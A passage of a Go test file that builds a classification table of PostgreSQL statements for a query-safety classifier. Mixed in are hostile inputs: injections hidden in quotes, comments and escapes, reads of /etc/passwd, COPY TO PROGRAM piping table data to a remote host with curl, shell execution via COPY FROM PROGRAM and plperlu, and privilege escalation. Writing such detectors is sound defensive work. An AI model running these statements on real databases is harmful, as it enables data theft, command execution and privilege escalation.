package sqlclass

import (
	"slices"
	"testing"

	"github.com/sluicehq/sluice"
)

const (
	R = sluice.ClassRead
	W = sluice.ClassWrite
	D = sluice.ClassDDL
	X = sluice.ClassDestructive
	P = sluice.ClassPrivileged
	U = sluice.ClassUnknown
)

// tcase is one statement of the classification table. Every field is
// checked: nil lists mean "none".
type tcase struct {
	sql      string
	class    sluice.Class
	kind     string // kind of the first statement
	tables   []string
	funcs    []string
	where    bool
	settings []string
}

func l(s ...string) []string { return s }

// table is the classification table: at least 150 statements, with every
// trick the classifier must see through. The PostgreSQL cross-check
// (readonly_test.go) runs each entry whose class is exactly read inside a
// read-only transaction against fixtures() and requires PostgreSQL to agree
// that it does not write.
var table = []tcase{
	// Plain reads.
	{"SELECT 1", R, "select", nil, nil, false, nil},
	{"SELECT abalance FROM pgbench_accounts WHERE aid = 48213;", R, "select", l("pgbench_accounts"), nil, false, nil},
	{"select * from t where id = 1", R, "select", l("t"), nil, false, nil},
	{"TABLE t", R, "select", l("t"), nil, false, nil},
	{"VALUES (1, 'a'), (2, 'b')", R, "select", nil, nil, false, nil},
	{"SELECT * FROM t JOIN u ON t.id = u.id LEFT JOIN app.users x ON x.id = t.n", R, "select", l("t", "u", "app.users"), nil, false, nil},
	{"SELECT id FROM t UNION ALL SELECT id FROM u ORDER BY 1 LIMIT 10 OFFSET 5", R, "select", l("t", "u"), nil, false, nil},
	{"SELECT * FROM (SELECT id FROM t) s WHERE EXISTS (SELECT 1 FROM u WHERE u.id = s.id)", R, "select", l("t", "u"), nil, false, nil},
	{"SELECT count(*), max(id), min(v), avg(n), sum(n), string_agg(v, ',') FROM t GROUP BY n HAVING count(*) > 1", R, "select", l("t"), l("count", "max", "min", "avg", "sum", "string_agg"), false, nil},
	{"SELECT row_number() OVER (PARTITION BY n ORDER BY id), lag(v) OVER w FROM t WINDOW w AS (ORDER BY id)", R, "select", l("t"), l("row_number", "lag"), false, nil},
	{"SELECT now(), current_date, current_user, lower(v), upper(v), length(v), coalesce(v, 'x'), nullif(n, 0), greatest(n, 1) FROM t", R, "select", l("t"), l("now", "lower", "upper", "length"), false, nil},
	{"SELECT extract(year FROM now()), date_trunc('day', now()), now() AT TIME ZONE 'UTC', to_char(now(), 'YYYY')", R, "select", nil, l("extract", "now", "date_trunc", "timezone", "to_char"), false, nil},
	{"SELECT substring('abc' FROM 2), trim('  a '), position('b' IN 'abc'), overlay('abc' PLACING 'x' FROM 2)", R, "select", nil, l("substring", "btrim", "position", "overlay"), false, nil},
	{"SELECT jsonb_build_object('a', 1), to_jsonb(t), jsonb_path_query(to_jsonb(t), '$.id') FROM t", R, "select", l("t"), l("jsonb_build_object", "to_jsonb", "jsonb_path_query"), false, nil},
	{"SELECT * FROM generate_series(1, 3) g(i) CROSS JOIN LATERAL unnest(ARRAY[1, 2]) u(x)", R, "select", nil, l("generate_series", "unnest"), false, nil},
	{"SELECT CASE WHEN n > 0 THEN 'pos' ELSE 'neg' END, n::text, CAST(n AS bigint), v IS NULL, v LIKE 'a%' FROM t", R, "select", l("t"), nil, false, nil},
	{"SELECT pg_size_pretty(pg_total_relation_size('t')), has_table_privilege('t', 'select'), version(), current_setting('work_mem')", R, "select", nil, l("pg_size_pretty", "pg_total_relation_size", "has_table_privilege", "version", "current_setting"), false, nil},
	{"SELECT c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r', 'p') AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1", R, "select", l("pg_catalog.pg_class", "pg_catalog.pg_namespace"), l("pg_catalog.pg_table_is_visible"), false, nil},
	{"SELECT pg_catalog.format_type(a.atttypid, a.atttypmod) FROM pg_catalog.pg_attribute a WHERE a.attrelid = 't'::regclass", R, "select", l("pg_catalog.pg_attribute"), l("pg_catalog.format_type"), false, nil},
	{"SELECT 1 OPERATOR(pg_catalog.+) 2", R, "select", nil, nil, false, nil},
	{"SELECT * FROM t TABLESAMPLE SYSTEM (10)", R, "select", l("t"), nil, false, nil},
	{"SELECT currval('s')", R, "select", nil, l("currval"), false, nil},
	{"SELECT pg_sleep(0)", R, "select", nil, l("pg_sleep"), false, nil},
	{"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r", R, "select", nil, nil, false, nil},
	{"WITH x AS (SELECT id FROM t), y AS (SELECT id FROM x) SELECT * FROM y JOIN u USING (id)", R, "select", l("t", "u"), nil, false, nil},
	{"SELECT * FROM t WHERE v ~ '^a' AND n = ANY(ARRAY[1, 2]) AND id IN (SELECT id FROM u)", R, "select", l("t", "u"), nil, false, nil},
	{"SELECT (t).id FROM t", R, "select", l("t"), nil, false, nil},
	{"SELECT DISTINCT ON (n) id, v FROM t ORDER BY n, id", R, "select", l("t"), nil, false, nil},
	{"SELECT * FROM t WHERE v IS DISTINCT FROM 'a' AND n BETWEEN 1 AND 5", R, "select", l("t"), nil, false, nil},
	{"SELECT n, count(*) FROM t GROUP BY ROLLUP (n)", R, "select", l("t"), l("count"), false, nil},
	{"SELECT * FROM t t1 NATURAL JOIN t t2", R, "select", l("t"), nil, false, nil},
	{"SELECT id FROM t INTERSECT SELECT id FROM u EXCEPT SELECT 3", R, "select", l("t", "u"), nil, false, nil},
	{"SELECT array_agg(id ORDER BY id DESC), percentile_cont(0.5) WITHIN GROUP (ORDER BY n) FROM t", R, "select", l("t"), l("array_agg", "percentile_cont"), false, nil},
	{"SELECT jsonb_agg(x) FROM (SELECT id, v FROM t) x", R, "select", l("t"), l("jsonb_agg"), false, nil},
	{`SELECT * FROM json_to_recordset('[{"a":1}]') AS r(a int)`, R, "select", nil, l("json_to_recordset"), false, nil},
	{"SELECT xmlelement(name a, 'x'), xmlforest(1 AS b)", R, "select", nil, nil, false, nil},
	{"SELECT regexp_replace(v, 'a', 'b', 'g'), split_part(v, ',', 1), md5(v), encode(sha256(v::bytea), 'hex') FROM t", R, "select", l("t"), l("regexp_replace", "split_part", "md5", "encode", "sha256"), false, nil},
	{"SELECT gen_random_uuid(), pg_backend_pid(), inet_server_port(), to_regclass('t'), 't'::regclass::oid", R, "select", nil, l("gen_random_uuid", "pg_backend_pid", "inet_server_port", "to_regclass"), false, nil},
	{"SELECT * FROM t FETCH FIRST 1 ROWS ONLY", R, "select", l("t"), nil, false, nil},
	{"SELECT * FROM pg_stat_activity WHERE pid <> pg_backend_pid()", R, "select", l("pg_stat_activity"), l("pg_backend_pid"), false, nil},
	{"SELECT obj_description('t'::regclass), pg_get_indexdef(indexrelid) FROM pg_index", R, "select", l("pg_index"), l("obj_description", "pg_get_indexdef"), false, nil},
	{"SELECT count(*) FROM t WHERE (v, n) IN (('a', 1)) AND id = (SELECT max(id) FROM u)", R, "select", l("t", "u"), l("count", "max"), false, nil},
	{"SELECT 1 WHERE EXISTS (SELECT 1 FROM t FOR UPDATE)", R | W, "select", l("t"), nil, false, nil},
	{"SELECT (SELECT nextval('s'))", R | W, "select", nil, l("nextval"), false, nil},
	{"SELECT * FROM t WHERE id = 1 OR lower(v) = ANY (SELECT v FROM u)", R, "select", l("t", "u"), l("lower"), false, nil},

	// Quoting, comments, escapes and case games.
	{"SELECT 'DELETE FROM t'", R, "select", nil, nil, false, nil},
	{"SELECT 'x''; DELETE FROM t; --'", R, "select", nil, nil, false, nil},
	{"SELECT $$DROP TABLE t$$", R, "select", nil, nil, false, nil},
	{"SELECT $tag$ ; DELETE FROM t; $tag$", R, "select", nil, nil, false, nil},
	{"SELECT $a$ $b$ DROP TABLE t $b$ $a$", R, "select", nil, nil, false, nil},
	{`SELECT E'\'; DELETE FROM t; --'`, R, "select", nil, nil, false, nil},
	{`SELECT E'\u0044ELETE FROM t'`, R, "select", nil, nil, false, nil},
	{`SELECT U&'\0044ELETE FROM t'`, R, "select", nil, nil, false, nil},
	{`SELECT U&'d!0061t' UESCAPE '!'`, R, "select", nil, nil, false, nil},
	{"SELECT 1 -- ; DELETE FROM t", R, "select", nil, nil, false, nil},
	{"SELECT /* /* nested */ DELETE FROM t; */ 1", R, "select", nil, nil, false, nil},
	{"/* DROP TABLE t; */ SELECT 1", R, "select", nil, nil, false, nil},
	{"SELECT 1 /* unterminated -- */ /* ; DROP TABLE t */", R, "select", nil, nil, false, nil},
	{`SELECT * FROM "DELETE"`, R, "select", l(`"DELETE"`), nil, false, nil},
	{`SELECT * FROM "Orders"`, R, "select", l(`"Orders"`), nil, false, nil},
	{`SELECT * FROM ORDERS`, R, "select", l("orders"), nil, false, nil},
	{`SELECT * FROM "orders"`, R, "select", l("orders"), nil, false, nil},
	{`SELECT * FROM public."my.table"`, R, "select", l(`public."my.table"`), nil, false, nil},
	{`SELECT * FROM "we""ird"`, R, "select", l(`"we""ird"`), nil, false, nil},
	{`SELECT * FROM U&"d\0061t"`, R, "select", l("dat"), nil, false, nil},
	{`SELECT * FROM U&"\0074"`, R, "select", l("t"), nil, false, nil},
	{"SeLeCt NoW() FrOm T", R, "select", l("t"), l("now"), false, nil},
	{"SELECT\n\t1\r\n;", R, "select", nil, nil, false, nil},
	{`SELECT "count"(*) FROM t`, R, "select", l("t"), l("count"), false, nil},
	{`DeLeTe FrOm T`, W | X, "delete", l("t"), nil, true, nil},
	{`DELETE /* WHERE id = 1 */ FROM t`, W | X, "delete", l("t"), nil, true, nil},
	{"DELETE FROM t -- WHERE id = 1", W | X, "delete", l("t"), nil, true, nil},
	{`DELETE FROM U&"\0074" WHERE id = 1`, W, "delete", l("t"), nil, false, nil},
	{`UPDATE "Orders" SET total = 0 WHERE 'id' = 'id'`, W | X, "update", l(`"Orders"`), nil, true, nil},

	// Writes and the WHERE rule.
	{"INSERT INTO t VALUES (1, 'a', 2)", W, "insert", l("t"), nil, false, nil},
	{"INSERT INTO t (id, v) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET v = excluded.v", W, "insert", l("t"), nil, false, nil},
	{"INSERT INTO t (id) SELECT id FROM u", R | W, "insert", l("t", "u"), nil, false, nil},
	{"INSERT INTO t DEFAULT VALUES RETURNING id", W, "insert", l("t"), nil, false, nil},
	{"INSERT INTO t VALUES ((SELECT max(id) + 1 FROM t), 'x', 0)", R | W, "insert", l("t"), l("max"), false, nil},
	{"UPDATE t SET v = 'x' WHERE id = 1", W, "update", l("t"), nil, false, nil},
	{"UPDATE t SET v = 'x'", W | X, "update", l("t"), nil, true, nil},
	{"UPDATE t SET v = u.v FROM u WHERE t.id = u.id", W, "update", l("t", "u"), nil, false, nil},
	{"UPDATE t SET n = n + 1 WHERE true", W | X, "update", l("t"), nil, true, nil},
	{"DELETE FROM t", W | X, "delete", l("t"), nil, true, nil},
	{"DELETE FROM t WHERE id = 1", W, "delete", l("t"), nil, false, nil},
	{"DELETE FROM t WHERE 1 = 1", W | X, "delete", l("t"), nil, true, nil},
	{"DELETE FROM t WHERE 1 = 0", W | X, "delete", l("t"), nil, true, nil},
	{"DELETE FROM t WHERE NOT false", W | X, "delete", l("t"), nil, true, nil},
	{"DELETE FROM t WHERE 1 = 1 OR 2 = 2", W | X, "delete", l("t"), nil, true, nil},
	{"DELETE FROM t WHERE random() < 0.5", W | X, "delete", l("t"), l("random"), true, nil},
	{"DELETE FROM t WHERE EXISTS (SELECT 1)", R | W | X, "delete", l("t"), nil, true, nil},
	{"DELETE FROM t WHERE id IN (SELECT id FROM u)", R | W, "delete", l("t", "u"), nil, false, nil},
	{"DELETE FROM t USING u WHERE t.id = u.id", W, "delete", l("t", "u"), nil, false, nil},
	{"DELETE FROM ONLY app.users WHERE id > 5 RETURNING *", W, "delete", l("app.users"), nil, false, nil},
	{"DELETE FROM t WHERE CURRENT OF c", W, "delete", l("t"), nil, false, nil},
	{"MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET v = u.v WHEN NOT MATCHED THEN INSERT VALUES (u.id, u.v, 0)", W, "merge", l("t", "u"), nil, false, nil},
	{"MERGE INTO t USING u ON true WHEN MATCHED THEN DELETE", W | X, "merge", l("t", "u"), nil, true, nil},
	{"MERGE INTO t USING u ON 1 = 1 WHEN NOT MATCHED THEN INSERT VALUES (u.id, u.v, 0)", W, "merge", l("t", "u"), nil, false, nil},
	{"MERGE INTO t USING u ON t.id = u.id WHEN NOT MATCHED BY SOURCE THEN DELETE", W | X, "merge", l("t", "u"), nil, false, nil},

	// CTEs with writes, even under SELECT.
	{"WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", R | W, "select", l("t"), nil, false, nil},
	{"WITH u2 AS (UPDATE t SET v = 'x' RETURNING *) SELECT count(*) FROM u2", R | W | X, "select", l("t"), l("count"), true, nil},
	{"WITH i AS (INSERT INTO t (id) VALUES (9) RETURNING id) SELECT * FROM i", R | W, "select", l("t"), nil, false, nil},
	{"WITH x AS (SELECT id FROM u) INSERT INTO t (id) SELECT id FROM x", R | W, "insert", l("u", "t"), nil, false, nil},
	{"WITH a AS (SELECT 1), b AS (DELETE FROM t RETURNING id) SELECT * FROM a, b", R | W | X, "select", l("t"), nil, true, nil},
	{"SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s", R | W | X, "select", l("t"), nil, true, nil},
	{"WITH t AS (SELECT 1 AS id) DELETE FROM t WHERE id IN (SELECT id FROM t)", R | W, "delete", l("t"), nil, false, nil},
	{"WITH u AS (SELECT 2 AS id) UPDATE t SET n = 0 FROM u WHERE t.id = u.id", R | W, "update", l("t"), nil, false, nil},

	// Row locks, SELECT INTO, CREATE TABLE AS.
	{"SELECT * FROM t FOR UPDATE", R | W, "select", l("t"), nil, false, nil},
	{"SELECT * FROM t FOR SHARE OF t SKIP LOCKED", R | W, "select", l("t"), nil, false, nil},
	{"SELECT * FROM t FOR NO KEY UPDATE NOWAIT", R | W, "select", l("t"), nil, false, nil},
	{"SELECT * FROM t FOR KEY SHARE", R | W, "select", l("t"), nil, false, nil},
	{"SELECT * INTO t_copy FROM t", R | W | D, "select_into", l("t_copy", "t"), nil, false, nil},
	{"CREATE TABLE t2 AS SELECT * FROM t", R | W | D, "create_table_as", l("t2", "t"), nil, false, nil},
	{"CREATE TEMP TABLE t3 AS VALUES (1)", R | W | D, "create_table_as", l("t3"), nil, false, nil},
	{"CREATE MATERIALIZED VIEW mv2 AS SELECT id FROM t", R | W | D, "create_materialized_view", l("mv2", "t"), nil, false, nil},

	// EXPLAIN.
	{"EXPLAIN SELECT * FROM t", R, "explain", l("t"), nil, false, nil},
	{"EXPLAIN DELETE FROM t", R, "explain", l("t"), nil, false, nil},
	{"EXPLAIN (COSTS OFF, VERBOSE) UPDATE t SET v = 'x'", R, "explain", l("t"), nil, false, nil},
	{"EXPLAIN SELECT nextval('s')", R, "explain", nil, l("nextval"), false, nil},
	{"EXPLAIN ANALYZE SELECT * FROM t", R, "explain_analyze", l("t"), nil, false, nil},
	{"EXPLAIN ANALYZE DELETE FROM t", R | W | X, "explain_analyze", l("t"), nil, true, nil},
	{"EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) UPDATE t SET v = 'y' WHERE id = 1", R | W, "explain_analyze", l("t"), nil, false, nil},
	{"EXPLAIN (ANALYZE false) DELETE FROM t WHERE id = 1", R | W, "explain_analyze", l("t"), nil, false, nil},
	{"EXPLAIN SELECT my_func(1)", R | U, "explain", nil, l("my_func"), false, nil},
	{"EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')", R | P, "explain_analyze", nil, l("pg_read_file"), false, nil},

	// PREPARE / EXECUTE / DEALLOCATE.
	{"PREPARE q1 AS SELECT * FROM t WHERE id = $1", R, "prepare", l("t"), nil, false, nil},
	{"PREPARE q2 (int) AS DELETE FROM t WHERE id = $1", W, "prepare", l("t"), nil, false, nil},
	{"PREPARE q3 AS DELETE FROM t WHERE $1", W | X, "prepare", l("t"), nil, true, nil},
	{"PREPARE q4 AS DELETE FROM t; EXECUTE q4", W | X, "prepare", l("t"), nil, true, nil},
	{"EXECUTE q5", U, "execute", nil, nil, false, nil},
	{"EXECUTE q6(pg_read_file('/x'))", U | P, "execute", nil, l("pg_read_file"), false, nil},
	{"PREPARE q7 AS SELECT 1; DEALLOCATE q7; EXECUTE q7", R | U, "prepare", nil, nil, false, nil},
	{"PREPARE q8 AS SELECT 1; EXECUTE q8; DEALLOCATE q8", R, "prepare", nil, nil, false, nil},
	{"DEALLOCATE ALL", R, "deallocate_all", nil, nil, false, nil},
	{"CREATE TABLE t4 AS EXECUTE q9", W | D | U, "create_table_as", l("t4"), nil, false, nil},

	// DO, CALL and functions.
	{"DO $$ BEGIN DELETE FROM t; END $$", U, "do", nil, nil, false, nil},
	{"DO LANGUAGE plperlu 'system(1)'", U | P, "do", nil, nil, false, nil},
	{"CALL my_proc(1)", U, "call", nil, l("my_proc"), false, nil},
	{"SELECT my_func(1)", R | U, "select", nil, l("my_func"), false, nil},
	{"SELECT public.now()", R | U, "select", nil, l("public.now"), false, nil},
	{`SELECT "PG_READ_FILE"('/etc/passwd')`, R | U, "select", nil, l(`"PG_READ_FILE"`), false, nil},
	{"SELECT PG_READ_FILE('/etc/passwd')", R | P, "select", nil, l("pg_read_file"), false, nil},
	{`SELECT "pg_read_file"('/etc/passwd')`, R | P, "select", nil, l("pg_read_file"), false, nil},
	{"SELECT pg_catalog.pg_read_file('/etc/passwd')", R | P, "select", nil, l("pg_catalog.pg_read_file"), false, nil},
	{"SELECT public.pg_read_file('/etc/passwd')", R | P | U, "select", nil, l("public.pg_read_file"), false, nil},
	{"SELECT pg_read_binary_file('/etc/passwd')", R | P, "select", nil, l("pg_read_binary_file"), false, nil},
	{"SELECT * FROM pg_ls_dir('.')", R | P, "select", nil, l("pg_ls_dir"), false, nil},
	{"SELECT pg_stat_file('postgresql.conf')", R | P, "select", nil, l("pg_stat_file"), false, nil},
	{"SELECT lo_import('/etc/passwd')", R | W | P, "select", nil, l("lo_import"), false, nil},
	{"SELECT lo_export(1234, '/tmp/x')", R | P, "select", nil, l("lo_export"), false, nil},
	{"SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", R | P, "select", nil, l("dblink"), false, nil},
	{"SELECT dblink_exec('host=x', 'DROP TABLE t')", R | P, "select", nil, l("dblink_exec"), false, nil},
	{"SELECT pg_terminate_backend(pid) FROM pg_stat_activity", R | P, "select", l("pg_stat_activity"), l("pg_terminate_backend"), false, nil},
	{"SELECT pg_cancel_backend(1)", R | P, "select", nil, l("pg_cancel_backend"), false, nil},
	{"SELECT pg_reload_conf()", R | P, "select", nil, l("pg_reload_conf"), false, nil},
	{"SELECT pg_promote()", R | P, "select", nil, l("pg_promote"), false, nil},
	{"SELECT set_config('statement_timeout', '1s', false)", R | P, "select", nil, l("set_config"), false, l("statement_timeout")},
	{"SELECT set_config('default_transaction_read_only', 'off', false)", R | P, "select", nil, l("set_config"), false, l("default_transaction_read_only")},
	{"SELECT nextval('s')", R | W, "select", nil, l("nextval"), false, nil},
	{"SELECT setval('s', 42)", R | W, "select", nil, l("setval"), false, nil},
	{"SELECT pg_advisory_lock(1)", R | W, "select", nil, l("pg_advisory_lock"), false, nil},
	{"SELECT pg_try_advisory_xact_lock(1)", R | W, "select", nil, l("pg_try_advisory_xact_lock"), false, nil},
	{"SELECT lo_create(0)", R | W, "select", nil, l("lo_create"), false, nil},
	{"SELECT lo_unlink(1234)", R | W | X, "select", nil, l("lo_unlink"), false, nil},
	{"SELECT txid_current()", R | W, "select", nil, l("txid_current"), false, nil},
	{"SELECT pg_notify('ch', 'x')", R | W, "select", nil, l("pg_notify"), false, nil},
	{"SELECT query_to_xml('DELETE FROM t RETURNING *', true, true, '')", R | U, "select", nil, l("query_to_xml"), false, nil},
	{"SELECT ('/etc/passwd'::text).pg_read_file", R | P, "select", nil, l("pg_read_file"), false, nil},
	{"SELECT ('s'::text).nextval", R | W, "select", nil, l("nextval"), false, nil},
	{"SELECT 1 OPERATOR(public.+) 2", R | U, "select", nil, nil, false, nil},
	{"SELECT * FROM t TABLESAMPLE my_sampler (10)", R | U, "select", l("t"), nil, false, nil},
	{"SELECT count(*) FILTER (WHERE my_func(n)) FROM t", R | U, "select", l("t"), l("count", "my_func"), false, nil},
	{"SELECT * FROM t ORDER BY my_func(n) LIMIT pg_backend_pid()", R | U, "select", l("t"), l("my_func", "pg_backend_pid"), false, nil},

	// COPY.
	{"COPY t TO STDOUT", R, "copy_to", l("t"), nil, false, nil},
	{"COPY (SELECT * FROM t WHERE id > 1) TO STDOUT WITH (FORMAT csv)", R, "copy_to", l("t"), nil, false, nil},
	{"COPY t FROM STDIN", W, "copy_from", l("t"), nil, false, nil},
	{"COPY t (id, v) FROM STDIN WITH (FORMAT csv) WHERE id > 0", W, "copy_from", l("t"), nil, false, nil},
	{"COPY t TO '/tmp/t.csv'", R | P, "copy_to", l("t"), nil, false, nil},
	{"COPY t FROM '/etc/passwd'", W | P, "copy_from", l("t"), nil, false, nil},
	{"COPY t TO PROGRAM 'curl -d @- http://x'", R | P, "copy_to", l("t"), nil, false, nil},
	{"COPY t FROM PROGRAM 'id'", W | P, "copy_from", l("t"), nil, false, nil},
	{"COPY (DELETE FROM t RETURNING *) TO STDOUT", R | W | X, "copy_to", l("t"), nil, true, nil},

	// TRUNCATE, DROP and other schema changes.
	{"TRUNCATE t", W | D | X, "truncate", l("t"), nil, false, nil},
	{"TRUNCATE TABLE t, u RESTART IDENTITY CASCADE", W | D | X, "truncate", l("t", "u"), nil, false, nil},
	{"DROP TABLE t", D | X, "drop_table", l("t"), nil, false, nil},
	{`DROP TABLE IF EXISTS a, b.c, "Orders"`, D | X, "drop_table", l("a", "b.c", `"Orders"`), nil, false, nil},
	{"DROP VIEW v", D | X, "drop_view", l("v"), nil, false, nil},
	{"DROP INDEX CONCURRENTLY i", D | X, "drop_index", l("i"), nil, false, nil},
	{"DROP FUNCTION f(int)", D | X, "drop_function", nil, nil, false, nil},
	{"DROP SCHEMA app CASCADE", D | X, "drop_schema", nil, nil, false, nil},
	{"DROP DATABASE d", D | X, "drop_database", nil, nil, false, nil},
	{"DROP EXTENSION dblink", D | X | P, "drop_extension", nil, nil, false, nil},
	{"ALTER TABLE t DROP COLUMN v", D | X, "alter_table", l("t"), nil, false, nil},
	{"ALTER TABLE t ADD COLUMN x int", D, "alter_table", l("t"), nil, false, nil},
	{"ALTER TABLE t ALTER COLUMN v TYPE int USING v::int", D | X, "alter_table", l("t"), nil, false, nil},
	{"ALTER TABLE t ADD COLUMN y bigint DEFAULT nextval('s')", D | W, "alter_table", l("t"), l("nextval"), false, nil},
	{"ALTER TABLE t RENAME TO t9", D, "rename", l("t"), nil, false, nil},
	{"ALTER TABLE t OWNER TO bob", D | P, "alter_table", l("t"), nil, false, nil},
	{"ALTER TABLE t DISABLE ROW LEVEL SECURITY", D | P, "alter_table", l("t"), nil, false, nil},
	{"ALTER TABLE t DISABLE TRIGGER ALL", D | P, "alter_table", l("t"), nil, false, nil},
	{"CREATE TABLE t5 (id serial PRIMARY KEY, v text NOT NULL, u_id int REFERENCES u (id))", D, "create_table", l("t5", "u"), nil, false, nil},
	{"CREATE TEMP TABLE tt (x int)", D, "create_table", l("tt"), nil, false, nil},
	{"CREATE TABLE t6 (id bigint DEFAULT nextval('s'))", D | W, "create_table", l("t6"), l("nextval"), false, nil},
	{"CREATE INDEX CONCURRENTLY i2 ON t (lower(v))", D, "create_index", l("t"), l("lower"), false, nil},
	{"CREATE VIEW v2 AS SELECT * FROM t", D | R, "create_view", l("v2", "t"), nil, false, nil},
	{"CREATE SCHEMA s2 CREATE TABLE s2t (id int)", D, "create_schema", l("s2t"), nil, false, nil},
	{"CREATE SEQUENCE s3", D, "create_sequence", l("s3"), nil, false, nil},
	{"ALTER SEQUENCE s RESTART WITH 1", D, "alter_sequence", l("s"), nil, false, nil},
	{"CREATE TYPE mood AS ENUM ('sad', 'ok')", D, "create_type", nil, nil, false, nil},
	{"COMMENT ON TABLE t IS 'x'", D, "comment", nil, nil, false, nil},
	{"CREATE TRIGGER trg BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", D, "create_trigger", l("t"), nil, false, nil},
	{"CREATE RULE r AS ON DELETE TO t DO INSTEAD NOTHING", D, "create_rule", l("t"), nil, false, nil},
	{"CREATE POLICY p ON t USING (true)", D | P, "create_policy", l("t"), nil, false, nil},
	{"CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$", D, "create_function", nil, nil, false, nil},
	{"CREATE FUNCTION f2() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'", D | P, "create_function", nil, nil, false, nil},
	{"CREATE FUNCTION f3() RETURNS int LANGUAGE plperlu AS 'return 1'", D | P, "create_function", nil, nil, false, nil},
	{"CREATE FUNCTION f4() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END", D | W | X, "create_function", l("t"), nil, true, nil},
	{"CREATE FUNCTION f5() RETURNS int LANGUAGE sql SET search_path = public RETURN 1", D, "create_function", nil, nil, false, l("search_path")},
	{"ALTER FUNCTION f() SECURITY DEFINER", D | P, "alter_function", nil, nil, false, nil},
	{"ALTER FUNCTION f() SET search_path = public", D, "alter_function", nil, nil, false, l("search_path")},

	// Privileges, roles and the server.
	{"GRANT SELECT ON t TO bob", P, "grant", l("t"), nil, false, nil},
	{"REVOKE ALL ON ALL TABLES IN SCHEMA public FROM PUBLIC", P, "revoke", nil, nil, false, nil},
	{"GRANT admin TO bob", P, "grant_role", nil, nil, false, nil},
	{"ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", P, "alter_default_privileges", nil, nil, false, nil},
	{"CREATE ROLE r LOGIN PASSWORD 'secret'", P, "create_role", nil, nil, false, nil},
	{"CREATE USER u2", P, "create_user", nil, nil, false, nil},
	{"ALTER USER bob SUPERUSER", P, "alter_role", nil, nil, false, nil},
	{"ALTER ROLE bob SET search_path = evil", P, "alter_role_set", nil, nil, false, l("search_path")},
	{"ALTER DATABASE d SET default_transaction_read_only = off", D | P, "alter_database_set", nil, nil, false, l("default_transaction_read_only")},
	{"DROP ROLE bob", P | X, "drop_role", nil, nil, false, nil},
	{"ALTER SYSTEM SET work_mem = '1GB'", P, "alter_system", nil, nil, false, l("work_mem")},
	{"LOAD 'auto_explain'", P, "load", nil, nil, false, nil},
	{"CREATE EXTENSION IF NOT EXISTS dblink", D | P, "create_extension", nil, nil, false, nil},
	{"CREATE LANGUAGE plperlu", D | P, "create_extension", nil, nil, false, nil},
	{"CHECKPOINT", P, "checkpoint", nil, nil, false, nil},
	{"REASSIGN OWNED BY a TO b", D | P, "reassign_owned", nil, nil, false, nil},
	{"DROP OWNED BY a", D | X | P, "drop_owned", nil, nil, false, nil},
	{"CREATE SERVER srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')", D | P, "create_server", nil, nil, false, nil},
	{"CREATE SUBSCRIPTION sub CONNECTION 'host=x' PUBLICATION p", D | P, "create_subscription", nil, nil, false, nil},
	{"CREATE DATABASE d2", D | P, "create_database", nil, nil, false, nil},
	{"CREATE TABLESPACE ts LOCATION '/tmp/ts'", D | P, "create_tablespace", nil, nil, false, nil},

	// Settings.
	{"SET ROLE admin", R | P, "set", nil, nil, false, l("role")},
	{"RESET ROLE", R | P, "reset", nil, nil, false, l("role")},
	{"SET SESSION AUTHORIZATION postgres", R | P, "set", nil, nil, false, l("session_authorization")},
	{"RESET SESSION AUTHORIZATION", R | P, "reset", nil, nil, false, l("session_authorization")},
	{"SET default_transaction_read_only = off", R | P, "set", nil, nil, false, l("default_transaction_read_only")},
	{"SET default_transaction_read_only TO on", R | P, "set", nil, nil, false, l("default_transaction_read_only")},
	{"SET transaction_read_only = off", R | P, "set", nil, nil, false, l("transaction_read_only")},
	{"RESET default_transaction_read_only", R | P, "reset", nil, nil, false, l("default_transaction_read_only")},
	{"SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", R | P, "set_session_characteristics", nil, nil, false, l("default_transaction_read_only")},
	{"SET TRANSACTION READ WRITE", R | P, "set_transaction", nil, nil, false, l("transaction_read_only")},
	{"SET TRANSACTION READ ONLY", R, "set_transaction", nil, nil, false, l("transaction_read_only")},
	{"SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", R, "set_transaction", nil, nil, false, l("transaction_isolation")},
	{"SET search_path TO public", R | P, "set", nil, nil, false, l("search_path")},
	{`SET "Search_Path" = evil, pg_catalog`, R | P, "set", nil, nil, false, l("search_path")},
	{"SET SCHEMA 'evil'", R | P, "set", nil, nil, false, l("search_path")},
	{"SET LOCAL search_path = public", R | P, "set", nil, nil, false, l("search_path")},
	{"SET session_replication_role = replica", R | P, "set", nil, nil, false, l("session_replication_role")},
	{"SET NAMES 'SJIS'", R | P, "set", nil, nil, false, l("client_encoding")},
	{"SET standard_conforming_strings = off", R | P, "set", nil, nil, false, l("standard_conforming_strings")},
	{"SET app.tenant_id = '42'", R | P, "set", nil, nil, false, l("app.tenant_id")},
	{"SET log_statement = 'none'", R | P, "set", nil, nil, false, l("log_statement")},
	{"SET work_mem = '64MB'", R, "set", nil, nil, false, l("work_mem")},
	{"SET LOCAL statement_timeout = '5s'", R, "set", nil, nil, false, l("statement_timeout")},
	{"SET TIME ZONE 'UTC'", R, "set", nil, nil, false, l("timezone")},
	{"SET application_name TO DEFAULT", R, "set", nil, nil, false, l("application_name")},
	{"RESET work_mem", R, "reset", nil, nil, false, l("work_mem")},
	{"SET enable_seqscan = off", R, "set", nil, nil, false, l("enable_seqscan")},
	{"SET some_unknown_setting = 1", R | U, "set", nil, nil, false, l("some_unknown_setting")},
	{"RESET ALL", R | P, "reset_all", nil, nil, false, l("all")},
